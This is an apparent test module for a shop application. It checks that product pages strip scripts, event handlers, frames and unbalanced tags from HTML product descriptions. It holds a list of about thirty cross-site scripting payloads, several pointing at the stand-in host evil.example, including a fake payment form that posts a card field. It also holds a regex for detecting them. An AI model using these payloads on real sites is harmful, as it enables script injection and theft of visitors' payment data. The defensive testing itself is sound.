import type { Result, Row } from '../table';
import { addressOf, ask, each } from './ask';
import { handlersIn } from './hostile-texts';
import { withCatalogue } from './merchant-catalogue';
import type { Shop } from './shop';
import { unnamedScripts } from './unnamed-scripts';

/** HTML that runs a script, loads something, or takes over the page, if it is passed on. */
const BODIES: readonly string[] = [
  '<script>kwxss()</script>',
  '<scr<script>ipt>kwxss()</scr</script>ipt>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=kwxss()>',
  '<img src="https://evil.example/beacon.gif">',
  '<svg/onload=kwxss()>',
  '<svg><animate onbegin=kwxss() attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=kwxss()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=kwxss()>">',
  '<iframe srcdoc="<script>kwxss()</script>"></iframe>',
  '<object data="javascript:kwxss()"></object><embed src="javascript:kwxss()">',
  '<a href="javascript:kwxss()">x</a>',
  '<a href="JaVaScRiPt&colon;kwxss()">x</a>',
  '<a href="java&#9;script:kwxss()">x</a>',
  '<a href="javascript&#x3a;kwxss()">x</a>',
  '<a href="data:text/html,<script>kwxss()</script>">x</a>',
  '<a href="vbscript:kwxss()">x</a>',
  '<p onclick="kwxss()" onmouseover=kwxss() style="position:fixed;inset:0">x</p>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
  '<video poster=javascript:kwxss()><source onerror=kwxss()></video>',
  '<details open ontoggle=kwxss()>x</details>',
  '<template><script>kwxss()</script></template>',
  '<table background="javascript:kwxss()"><td background="javascript:kwxss()">x',
  '</div></section></main><script>kwxss()</script><h1>x</h1>',
  `${'<b><table><tr><td>'.repeat(300)}x`,
  `${'<a href="https://a.example">'.repeat(300)}x`,
];

/** What the page of a product has only if a description brought it. */
const BROUGHT = /<script[^>]*>\s*kwxss|javascript:|vbscript:|evil\.example|<(?:iframe|object|embed|base)\b/i;

async function run(shop: Shop): Promise<Result> {
  const products = BODIES.map((body, at) => ({ handle: `d${at}`, body: `<p>before</p>${body}<p>after</p>` }));
  const faults: string[] = [];
  await withCatalogue(shop, products, () =>
    each(BODIES, async (body, at) => {
      const given = body.slice(0, 60);
      const { status, text, headers } = await ask(shop, {
        path: `/products/d${at}`,
        address: addressOf(710_000),
      });
      // What the page carries as data is text of scripts of ours, with `<` escaped.
      const markup = text.replaceAll(/(<script\b[^>]*(?:id="_R_"|ld\+json)[^>]*>)[\s\S]*?<\/script>/gi, '$1');
      if (status !== 200) faults.push(`${status} for ${given}`);
      if (!text.includes('before')) faults.push(`the text before is missing: ${given}`);
      const found = BROUGHT.exec(markup)?.[0] ?? handlersIn(markup)[0];
      if (found !== undefined) faults.push(`${found} in the page of ${given}`);
      const [unnamed] = unnamedScripts(text, String(headers['content-security-policy']));
      if (unnamed !== undefined) faults.push(`${unnamed} without a hash in the policy for ${given}`);
    }),
  );
  for (const fault of faults) console.error(`\n  ${fault}`);
  return { passed: faults.length === 0, figures: `${BODIES.length} descriptions; ${faults.length} faults` };
}

export const descriptions = (shop: Shop): Row => ({
  name: 'descriptions',
  criterion:
    'pages of products whose HTML descriptions bring scripts, handlers, frames, forms, styles or unbalanced tags: 200, without any of them',
  run: () => run(shop),
});
